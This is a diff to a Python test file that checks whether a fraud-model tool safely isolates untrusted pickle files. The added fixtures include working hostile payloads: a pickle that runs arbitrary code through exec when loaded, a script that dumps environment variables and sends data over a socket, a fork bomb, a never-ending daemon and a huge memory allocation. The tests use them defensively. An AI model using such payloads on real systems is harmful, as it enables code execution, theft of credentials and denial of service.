@@ -3,6 +3,7 @@
 import json
 import os
 import pickle
+import socket
 from collections.abc import Callable
 from pathlib import Path
 
@@ -17,23 +18,60 @@ from sklearn.preprocessing import OneHotEncoder, StandardScaler
 
 from fraud_contract.artifacts.loading import PREPROCESSOR, PRODUCTION_MODEL
 from fraud_contract.errors import ArtifactError, NotCompilable, UsageError
+from fraud_registry.embedded import embedded
+from fraud_registry.publishing.publish import publish
+from fraud_training.conversion.isolation import isolating
 from fraud_training.conversion.process import convert_pickles
+from support.artifacts.datasets import small_dataset
+from support.artifacts.training_output import write_training_output
 from support.artifacts.transactions import transactions
-from support.fraudctl import fraudctl
+from support.fraudctl import fraudctl, processes_of
 from support.processes import started
 
 INPUTS = ["amt", "hour", "day_of_week", "category"]
 
 
-class Spy:
-    """Leaves its environment in a file when it is unpickled."""
+SPY = """
+import json, os, socket
+try:
+    socket.create_connection(("127.0.0.1", {port}), 5).sendall(b"secret")
+    sent = True
+except OSError:
+    sent = False
+processes = [name for name in os.listdir("/proc") if name.isdigit()]
+with open({target!r}, "w") as file:
+    json.dump(dict(environ=dict(os.environ), sent=sent, processes=processes), file)
+"""
+FORKS_FOR_EVER = """
+import os
+while True:
+    if os.fork():
+        os._exit(0)
+    os.setsid()
+"""
+NEVER_ENDS = """
+import os, time
+if os.fork() == 0:
+    os.setsid()
+while True:
+    time.sleep(1)
+"""
 
-    def __init__(self, target: Path) -> None:
-        self.target = target
+
+class Hostile:
+    """Runs `code` when it is unpickled."""
+
+    def __init__(self, code: str) -> None:
+        self.code = code
 
     def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
-        code = f"import json, os; json.dump(dict(os.environ), open({str(self.target)!r}, 'w'))"
-        return exec, (code,)
+        return exec, (self.code,)
+
+
+def hostile(folder: Path, code: str) -> Path:
+    """A pickle in `folder` that runs the code."""
+    (folder / "model.pkl").write_bytes(pickle.dumps(Hostile(code)))
+    return folder / "model.pkl"
 
 
 @pytest.fixture(scope="module")
@@ -94,26 +132,88 @@ def test_the_card_says_what_is_not_known(published: Path) -> None:
     assert "uncalibrated" in card
 
 
+def test_every_command_says_what_a_converted_release_lacks(published: Path, tmp_path: Path) -> None:
+    small_dataset(tmp_path / "data")
+    with embedded(published / "var" / "wandb") as account:
+        publish(account, write_training_output(tmp_path / "own", 70.0), ("own",))
+        rows = json.loads(fraudctl(published, "registry", "list", "-o", "json").stdout)
+        assert [("v1", "quickly"), ("v0", "elsewhere")] == [(row["version"], row["trained"]) for row in rows]
+        shown = fraudctl(published, "registry", "show", "production_model:v0", "-o", "json")
+        assert json.loads(shown.stdout)["metadata"]["not_known"].startswith(
+            "figures, calibration, training data"
+        )
+        assert 0 == fraudctl(published, "registry", "promote", "own").returncode
+        refused = fraudctl(published, "registry", "promote", "v0")
+        assert 2 == refused.returncode
+        assert "warning: converted from pickles: figures, calibration and training data" in refused.stderr
+        assert "has no figures of its own: it was converted from pickles" in refused.stderr
+        promoted = fraudctl(published, "registry", "promote", "v0", "--yes", "-o", "json")
+        assert (0, "elsewhere") == (promoted.returncode, json.loads(promoted.stdout)["trained"])
+        back = fraudctl(published, "registry", "rollback")
+        assert "warning: it was trained quickly, for a demo" in back.stderr
+        judged = fraudctl(published, "judge", "v1", "v0", "--dataset", str(tmp_path / "data"))
+    assert judged.returncode in {0, 3, 4}, judged.stderr
+    assert "does not say what it was trained on" in judged.stdout + judged.stderr
+
+
 def test_an_untrusted_pickle_is_not_read(tmp_path: Path) -> None:
-    (tmp_path / "model.pkl").write_bytes(pickle.dumps(Spy(tmp_path / "seen")))
-    refused = fraudctl(tmp_path, "publish", "--model", str(tmp_path / "model.pkl"))
+    model = hostile(tmp_path, SPY.format(port=9, target=str(tmp_path / "seen")))
+    refused = fraudctl(tmp_path, "publish", "--model", str(model))
     assert refused.returncode == 2
     assert "say --trust-pickle" in refused.stderr
     assert not (tmp_path / "seen").exists()
 
 
-def test_a_pickle_sees_no_secrets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_pickle_sees_no_secrets_and_reaches_nobody(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("WANDB_API_KEY", "k" * 40)
     monkeypatch.setenv("HTTPS_PROXY", "http://user:secret@proxy:1")
-    (tmp_path / "model.pkl").write_bytes(pickle.dumps(Spy(tmp_path / "seen")))
-    with pytest.raises(NotCompilable, match=r"NoneType; supported is an XGBClassifier|no Pipeline"):
-        convert_pickles(tmp_path / "model.pkl", None, tmp_path / "release")
-    seen = json.loads((tmp_path / "seen").read_text())
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+        port = listening.getsockname()[1]
+        model = hostile(tmp_path, SPY.format(port=port, target=str(tmp_path / "seen")))
+        with pytest.raises(NotCompilable, match=r"NoneType; supported is an XGBClassifier|no Pipeline"):
+            convert_pickles(model, None, tmp_path / "release")
+    found = json.loads((tmp_path / "seen").read_text())
+    isolated = bool(isolating())
+    assert (not isolated, isolated) == (found["sent"], found["processes"] == ["1"])
+    seen = found["environ"]
     assert {"HOME", "PATH"} <= seen.keys()
     assert [] == [name for name in seen if "WANDB" in name or "PROXY" in name.upper()]
     assert not {"k" * 40, "http://user:secret@proxy:1"} & set(seen.values())
     assert os.environ["HOME"] != seen["HOME"]
     assert {"model.pkl", "seen"} == {path.name for path in tmp_path.iterdir()}
+
+
+@pytest.mark.parametrize(
+    ("code", "message"),
+    [
+        pytest.param(FORKS_FOR_EVER, "ended unexpectedly", id="forks for ever"),
+        pytest.param(NEVER_ENDS, "took more than 10 s and was ended", id="never ends"),
+    ],
+)
+@pytest.mark.skipif(not isolating(), reason="this system allows no namespaces")
+def test_nothing_that_a_pickle_starts_outlives_the_conversion(
+    tmp_path: Path, code: str, message: str
+) -> None:
+    with pytest.raises(ArtifactError, match=message):
+        convert_pickles(hostile(tmp_path, code), None, tmp_path / "release", deadline=10)
+    assert [] == processes_of(tmp_path)
+    assert ["model.pkl"] == [path.name for path in tmp_path.iterdir()]
+
+
+def test_a_pickle_that_takes_too_much_memory_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(NotCompilable, match="takes too much memory"):
+        convert_pickles(hostile(tmp_path, "bytearray(1 << 40)"), None, tmp_path / "release")
+
+
+def test_where_the_system_allows_no_namespaces_the_conversion_says_so(
+    pickled: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "unshare").write_text("#!/bin/sh\nexit 1\n")
+    (tmp_path / "unshare").chmod(0o755)
+    monkeypatch.setenv("PATH", str(tmp_path), prepend=os.pathsep)
+    pickles = pickled / "model.pkl", pickled / "preprocessor.pkl"
+    converted = convert_pickles(*pickles, tmp_path / "release")
+    assert [True] == ["could have reached the network" in each for each in converted.warnings]
 
 
 def test_what_is_no_pickle_is_named(tmp_path: Path) -> None:
